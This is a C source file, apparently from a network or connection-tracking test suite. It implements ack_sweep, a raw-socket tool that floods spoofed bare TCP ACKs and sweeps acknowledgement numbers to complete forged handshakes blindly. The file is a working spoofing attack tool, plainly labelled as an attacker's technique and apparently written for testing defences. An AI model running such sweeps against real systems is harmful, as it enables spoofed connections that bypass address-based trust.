// SPDX-License-Identifier: GPL-2.0
/*
 * ack_sweep: a blind attacker's attempt to complete spoofed TCP handshakes.
 * For each of the source ports given, bare ACKs with sequence number SEQ
 * and acknowledgement numbers START, START - STEP, START - 2 * STEP, ...,
 * COUNT of them per port (ports interleaved), from SRC to DST:DPORT, as
 * fast as one AF_PACKET socket sends them, bounded by COUNT and SECONDS.
 *
 *   ack_sweep IFNAME DST-MAC SRC DST DPORT SEQ START STEP COUNT SECONDS SPORT...
 *
 * IPv4 only.  With STEP no wider than the tracker's ACK window and COUNT *
 * STEP >= 2^32, one guess per port falls in any window of that width.
 * Prints "sent N in S s (R pkt/s)"; exits 0 when all went out, 3 when
 * SECONDS ran out first, 1 on an error.  Scapy sends about a thousand
 * packets a second under emulation: a sweep is some 65 000 per port.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "pktlib.h"

#define MAX_PORTS 16

struct ack_sweep {
	uint8_t smac[6], dmac[6];
	struct in_addr src4, dst4;
	uint16_t sports[MAX_PORTS], dport;
	uint32_t seq, start_ack, step;
	unsigned int nports;
};

static size_t ack_frame(void *ctx, unsigned long k, uint8_t *buf)
{
	const struct ack_sweep *sw = ctx;
	struct tcp_spec t = {
		.sport = sw->sports[k % sw->nports], .dport = sw->dport,
		.flags = TH_ACK, .seq = sw->seq,
		.ack = sw->start_ack - (uint32_t)(k / sw->nports) * sw->step,
		.win = 64240, .doff = 5,
	};

	return build_tcp4(buf, sw->smac, sw->dmac, sw->src4, sw->dst4, &t);
}

int main(int argc, char **argv)
{
	struct ack_sweep sw;
	unsigned long count;
	unsigned int i;
	double limit;
	int fd, rc;

	if (argc < 12 || argc - 11 > MAX_PORTS) {
		fprintf(stderr, "usage: ack_sweep IFNAME DST-MAC SRC DST DPORT SEQ START STEP COUNT SECONDS SPORT...\n");
		return 1;
	}
	if (inet_pton(AF_INET, argv[3], &sw.src4) != 1 ||
	    inet_pton(AF_INET, argv[4], &sw.dst4) != 1) {
		fprintf(stderr, "ack_sweep: bad address\n");
		return 1;
	}
	sw.dport = (uint16_t)atoi(argv[5]);
	sw.seq = (uint32_t)strtoul(argv[6], NULL, 0);
	sw.start_ack = (uint32_t)strtoul(argv[7], NULL, 0);
	sw.step = (uint32_t)strtoul(argv[8], NULL, 0);
	count = strtoul(argv[9], NULL, 0);
	limit = atof(argv[10]);
	sw.nports = (unsigned int)(argc - 11);
	for (i = 0; i < sw.nports; i++)
		sw.sports[i] = (uint16_t)atoi(argv[11 + i]);

	fd = flood_open("ack_sweep", argv[1], argv[2], sw.smac, sw.dmac);
	if (fd < 0)
		return 1;
	rc = send_flood(fd, "ack_sweep", count * sw.nports, limit, ack_frame, &sw);
	close(fd);
	return rc;
}
